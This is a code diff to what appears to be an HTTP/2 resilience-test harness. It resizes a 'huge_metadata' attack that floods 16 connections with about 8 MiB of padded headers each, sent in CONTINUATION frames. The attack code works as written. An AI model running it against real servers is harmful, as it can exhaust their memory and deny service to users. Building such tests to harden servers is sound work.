@@ -32,15 +32,15 @@ def empty_continuation_flood(target, until):
 
 @attack(bounds=Bounds(growth_mib=600, answered=0.0, probed=0.0))
 def huge_metadata(target, until):
-    """calls with 8 MiB of metadata each, in CONTINUATION frames of 12 KiB, 16 at one time"""
-    part = h2.literal("x-padding", "y" * 12_000)
+    """calls with 8 MiB of metadata each, in CONTINUATION frames of 6 KiB, on 16 connections"""
+    part = h2.literal("x-padding", "y" * 6_000)
     opened = []
     for _ in until.times(16):
         opened.append(h2.Connection(target.data).hello(until))
         connection = opened[-1]
         connection.send(until, block_in_parts(connection, []))
     sent = 0
-    for _ in until.times(680):
+    for _ in until.times(1400):
         for each in opened:
             if each.alive:
                 sent += each.send(until, h2.frame(h2.CONTINUATION, 0, 1, part))
